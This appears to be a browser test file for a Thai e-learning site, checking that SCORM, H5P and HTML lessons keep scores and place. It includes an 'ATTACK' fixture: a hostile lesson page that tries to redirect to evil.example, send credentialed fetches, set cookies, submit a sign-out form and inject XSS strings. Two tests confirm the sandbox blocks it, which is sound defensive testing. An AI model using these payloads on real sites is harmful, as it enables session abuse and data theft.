"""H5P, SCORM and HTML packages, played in their sandbox in a real browser."""

from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, FrameLocator, Page, expect
from sqlalchemy import select

from server.models.lessons import Visibility
from server.models.library import Asset, AssetState
from server.models.packages import PackageAttempt
from server.models.people import RoleName
from tests.builders import PASSWORD, a_lesson, a_person, an_arrived_file
from tests.journeys.test_story import has_room_for_all, upload
from tests.journeys.visits import sign_in
from tests.packages import Files, h5p_files, scorm12_files, scorm2004_files, written
from tests.services.chromium import DESKTOP, PHONE
from tests.services.product import Product, running_product

pytestmark = pytest.mark.slow

ATTACK = """<!DOCTYPE html><html><head><meta charset="utf-8"></head><body><p id="done"></p>
<img src="/static/package/html.js" alt="">
<script>
(async function () {
  const found = {};
  const tries = {
    parent: () => window.top.document.title,
    frame: () => window.frameElement && window.frameElement.ownerDocument.title,
    top: () => { window.top.location.href = 'https://evil.example/'; return 'asked'; },
    storage: () => { localStorage.setItem('evil', 'yes'); return 'own'; },
    cookie: () => { document.cookie = 'evil=yes'; return document.cookie; },
    form: () => { const form = document.createElement('form'); form.action = '/sign-out';
      form.method = 'post'; form.target = '_top'; document.body.append(form); form.submit();
      return 'asked'; },
  };
  for (const name of Object.keys(tries)) {
    try { found[name] = String(tries[name]()); } catch (error) { found[name] = error.name; }
  }
  for (const path of ['/account', '/api/v1/uploads', '/api/v1/lessons', 'https://evil.example/x']) {
    try {
      found[path] = (await fetch(path, { credentials: 'include' })).status;
    } catch (error) { found[path] = error.name; }
  }
  for (let n = 0; n < 500; n++) window.top.postMessage({ khlang: 1, kind: 'progress', item: 'x',
    state: '<img src=x onerror=alert(1)>', score: { raw: '<b>', scaled: 7 }, completion: 'hacked',
    seconds: -1 }, '*');
  window.top.postMessage({ khlang: 1, kind: 'height', px: 1e9 }, '*');
  document.getElementById('done').textContent = JSON.stringify(found);
})();
</script></body></html>"""


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Product]:
    with running_product(tmp_path_factory.mktemp("packages")) as product:
        yield product


@pytest.fixture
def pupil(browser: Browser, server: Product) -> Iterator[Page]:
    """Somebody signed in, on a page in Thai."""
    yield from signed_in_page(browser, server, RoleName.STUDENT)


@pytest.fixture
def teacher(browser: Browser, server: Product) -> Iterator[Page]:
    """A teacher's page in Thai."""
    yield from signed_in_page(browser, server, RoleName.TEACHER)


def signed_in_page(browser: Browser, server: Product, role: RoleName) -> Iterator[Page]:
    with server.session() as session:
        user_name = a_person(session, role).user_name
    context = browser.new_context(**DESKTOP, base_url=server.url, locale="th-TH")
    page = context.new_page()
    sign_in(page, user_name, PASSWORD)
    yield page
    context.close()


def lesson_of(server: Product, tmp_path: Path, files: Files) -> str:
    """Upload a package, wait until it is ready; return its lesson's path."""
    path = written(tmp_path / "package.zip", files)
    with server.wired() as wiring, server.session() as session:
        teacher = a_person(session)
        original = an_arrived_file(session, wiring.store, path, owner=teacher)
        lesson = a_lesson(
            session,
            teacher,
            original=original,
            published=True,
            visibility=Visibility.PUBLIC,
            title="เศษส่วน ป.5",
        )
        asset_id, lesson_id = original.asset_id, lesson.id
    server.wait_until(lambda session: session.get_one(Asset, asset_id).state == AssetState.READY)
    return f"/lessons/{lesson_id}"


def turn_to(page: Page, part: str) -> None:
    """Go to another part; return when its frame is there: the old one looks the same."""
    button = page.get_by_role("button", name=part)
    button.click()
    expect(button).to_have_attribute("aria-current", "true")


def start(page: Page, lesson: str) -> FrameLocator:
    page.goto(lesson)
    page.locator(".package-start").click()
    return page.frame_locator(".package-frame")


def attempts(server: Product) -> list[PackageAttempt]:
    with server.session() as session:
        return list(session.scalars(select(PackageAttempt).order_by(PackageAttempt.started_at)))


def test_a_scorm_12_lesson_keeps_score_and_place(
    pupil: Page, server: Product, tmp_path: Path
) -> None:
    lesson = lesson_of(server, tmp_path, scorm12_files())
    sco = start(pupil, lesson)
    expect(sco.locator("#was")).to_have_text("true/ab-initio//")

    sco.locator("#answer").click()

    expect(sco.locator("#done")).to_have_text("true/0")
    expect(pupil.locator(".package-result")).to_have_text(
        "ได้ 80 คะแนน จาก 100 คะแนน · ทำครบแล้ว · ผ่านแล้ว"
    )
    expect(pupil.locator(".package-status")).to_contain_text("เก็บผลไว้แล้ว")
    kept = attempts(server)[-1]
    assert (kept.score_raw, kept.completion, kept.success) == (80, "completed", "passed")

    pupil.goto(lesson)
    expect(pupil.locator(".package-result")).to_contain_text("80")
    expect(pupil.locator(".package-start")).to_have_text("ทำต่อ")
    sco = start(pupil, lesson)
    expect(sco.locator("#was")).to_have_text("true/resume/หน้า 3/80")


def test_a_scorm_2004_lesson_of_two_parts_without_organisation(
    pupil: Page, server: Product, tmp_path: Path
) -> None:
    files = scorm2004_files("one.html", "two.html", with_organisation=False)
    lesson = lesson_of(server, tmp_path, files)
    sco = start(pupil, lesson)
    expect(sco.locator("#was")).to_have_text("true/ab-initio//")

    sco.locator("#answer").click()
    expect(pupil.locator(".package-result")).to_have_text("ได้คะแนน 75%")
    turn_to(pupil, "ส่วนที่ 2")
    expect(sco.locator("#was")).to_have_text("true/ab-initio//")
    sco.locator("#answer").click()

    expect(pupil.locator(".package-result")).to_have_text("ได้คะแนน 75% · ทำครบแล้ว")
    expect(pupil.locator(".package-status")).to_contain_text("เก็บผลไว้แล้ว")
    pupil.get_by_role("button", name="ส่วนที่ 1").click()
    expect(sco.locator("#was")).to_have_text("true/resume/หน้า 5/0.75")


def test_what_a_page_says_at_its_end_is_heard_and_starting_again_forgets(
    pupil: Page, server: Product, tmp_path: Path
) -> None:
    lesson = lesson_of(server, tmp_path, scorm12_files("one.html", "two.html"))
    sco = start(pupil, lesson)
    expect(sco.locator("#was")).to_contain_text("ab-initio")
    pupil.get_by_role("button", name="บทที่ 2").click()
    expect(pupil.locator(".package-status")).to_contain_text("เก็บผลไว้แล้ว")
    assert "ท้าย" in attempts(server)[-1].state["one.html"]

    pupil.get_by_role("button", name="เริ่มใหม่ตั้งแต่ต้น").click()
    pupil.get_by_role("button", name="บทที่ 1").click()

    expect(sco.locator("#was")).to_have_text("true/ab-initio//")


def test_an_h5p_exercise_keeps_score_and_state(
    pupil: Page, server: Product, tmp_path: Path
) -> None:
    lesson = lesson_of(server, tmp_path, h5p_files())
    exercise = start(pupil, lesson)
    expect(exercise.locator(".question")).to_have_text("2 + 2 เท่ากับเท่าไร")

    exercise.locator(".right").click()

    expect(pupil.locator(".package-result")).to_contain_text("ได้ 2 คะแนน จาก 2 คะแนน")
    expect(pupil.locator(".package-status")).to_contain_text("เก็บผลไว้แล้ว")
    exercise = start(pupil, lesson)
    expect(exercise.locator(".chosen")).to_have_text("4")


def test_a_guest_plays_and_is_told_that_nothing_is_kept(
    browser: Browser, server: Product, tmp_path: Path
) -> None:
    lesson = lesson_of(server, tmp_path, scorm12_files())
    before = len(attempts(server))
    context = browser.new_context(**PHONE, base_url=server.url, locale="th-TH")
    guest = context.new_page()
    sco = start(guest, lesson)
    sco.locator("#answer").click()

    expect(guest.locator(".package-result")).to_contain_text("80")
    expect(guest.locator(".package-status")).to_contain_text("ยังไม่ได้ลงชื่อเข้าใช้")
    assert has_room_for_all(guest)
    assert len(attempts(server)) == before
    context.close()


def test_a_package_plays_in_a_frame_of_another_site(
    browser: Browser, server: Product, tmp_path: Path
) -> None:
    lesson = lesson_of(server, tmp_path, scorm12_files("one.html", "two.html"))
    context = browser.new_context(**DESKTOP, base_url=server.url, locale="th-TH")
    page = context.new_page()
    page.goto(lesson.replace("/lessons/", "/embed/"))
    page.locator(".package-start").click()
    sco = page.frame_locator(".package-frame")
    expect(sco.locator("#was")).to_contain_text("true")

    turn_to(page, "บทที่ 2")  # the ticket of a frame works once
    expect(sco.locator("#was")).to_contain_text("true")
    sco.locator("#answer").click()

    expect(page.locator(".package-result")).to_have_text("ได้คะแนน 80%")
    context.close()


def test_a_teacher_uploads_an_exercise_and_reads_why_another_is_refused(
    teacher: Page, tmp_path: Path
) -> None:
    upload(teacher, written(tmp_path / "บวกเลข.h5p", h5p_files()))
    expect(teacher.locator(".state-ready")).to_have_text("พร้อมเล่น", timeout=30_000)
    teacher.locator("[name=visibility]").select_option("public")
    teacher.locator("[name=people][value=nobody]").check()
    teacher.locator("button[value=publish]").click()
    teacher.wait_for_url("**/studio/lessons/*")
    address = teacher.locator("#lesson-url").input_value()

    teacher.goto(address)
    teacher.locator(".package-start").click()
    exercise = teacher.frame_locator(".package-frame")
    expect(exercise.locator(".question")).to_contain_text("2 + 2")

    upload(teacher, written(tmp_path / "รูป.pptx", {"รูป.txt": "x"}))
    expect(teacher.locator("main")).to_contain_text("ไม่มีบทเรียนที่เล่นได้", timeout=30_000)
    expect(teacher.locator("main")).to_contain_text("ส่งออกบทเรียนเป็น SCORM")


def test_a_package_that_attacks_reaches_nothing(
    pupil: Page, server: Product, tmp_path: Path
) -> None:
    lesson = lesson_of(server, tmp_path, {"index.html": ATTACK})
    attack = start(pupil, lesson)
    done = attack.locator("#done")
    expect(done).to_contain_text("uploads")

    found = done.inner_text()

    assert pupil.evaluate(f"({found}).parent") == "SecurityError"
    assert pupil.evaluate(f"({found}).top") in {"SecurityError", "asked"}
    for path in ("/account", "/api/v1/uploads", "/api/v1/lessons", "https://evil.example/x"):
        assert pupil.evaluate(f"({found})['{path}']") == "TypeError", path
    assert pupil.url.endswith(lesson)
    assert pupil.evaluate("localStorage.getItem('evil')") is None
    assert "evil" not in pupil.evaluate("document.cookie")
    assert pupil.locator(".package img").count() == 0
    frame_height = pupil.locator(".package-frame").bounding_box()
    assert frame_height
    assert frame_height["height"] < 2000
    pupil.goto("/account")
    assert "/sign-in" not in pupil.url


def test_a_package_opened_directly_has_no_part_in_the_site(
    pupil: Page, server: Product, tmp_path: Path
) -> None:
    stays_here = ATTACK.replace("https://evil.example/'", "#'").replace("form.submit()", "''")
    lesson = lesson_of(server, tmp_path, {"index.html": stays_here})
    start(pupil, lesson)
    address = pupil.locator(".package-frame").get_attribute("src")
    assert address

    pupil.goto(address)

    assert pupil.evaluate("window.origin") == "null"
    found = pupil.locator("#done")
    expect(found).to_contain_text("uploads")
    assert '"/account":"TypeError"' in found.inner_text()


def test_the_keyboard_alone_starts_and_leaves_a_package(
    pupil: Page, server: Product, tmp_path: Path
) -> None:
    lesson = lesson_of(server, tmp_path, scorm12_files())
    pupil.goto(lesson)
    pupil.locator(".package-start").focus()
    pupil.keyboard.press("Enter")
    sco = pupil.frame_locator(".package-frame")
    expect(sco.locator("#was")).to_contain_text("true")

    expect(pupil.locator(".package-frame")).to_have_attribute("title", "สื่อโต้ตอบ: บทที่ 1")
    expect(pupil.locator(".package-frame")).to_be_focused()
    pupil.keyboard.press("Tab")
    pupil.keyboard.press("Enter")
    expect(pupil.locator(".package-result")).to_contain_text("80")
    pupil.keyboard.press("Tab")
    expect(pupil.locator(".package-bar button").first).to_be_focused()


@pytest.mark.parametrize(
    "holder",
    [
        "<body><iframe src='inner.html'></iframe></body>",
        "<frameset rows='20,*'><frame src='bar.html'><frame src='inner.html'></frameset>",
    ],
    ids=["frame", "frameset"],
)
def test_a_lesson_of_several_pages_and_frames_goes_on_where_it_was(
    pupil: Page, server: Product, tmp_path: Path, holder: str
) -> None:
    files = scorm12_files("start.html")
    files["inner.html"] = files["start.html"]
    files["second.html"] = f"<html><head></head>{holder}"
    files["bar.html"] = "<html><head></head><body>บทที่ 1</body>"
    files["start.html"] = (
        "<html><head></head><body><a href='second.html'>ต่อไป</a><p id='place'></p><script>"
        "API.LMSInitialize('');"
        "var was = API.LMSGetValue('cmi.core.lesson_location');"
        "document.getElementById('place').textContent = was;"
        "API.LMSSetValue('cmi.core.lesson_location', 'หน้าแรก'); API.LMSFinish('');"
        "</script></body>"
    )
    lesson = lesson_of(server, tmp_path, files)
    first = start(pupil, lesson)

    first.get_by_role("link").click()
    inner = first.frame_locator("[src='inner.html']")
    expect(inner.locator("#was")).to_contain_text("true")
    inner.locator("#answer").click()

    expect(pupil.locator(".package-result")).to_contain_text("80")
    expect(pupil.locator(".package-status")).to_contain_text("เก็บผลไว้แล้ว")
    again = start(pupil, lesson)
    expect(again.locator("#place")).to_have_text("หน้าแรก")
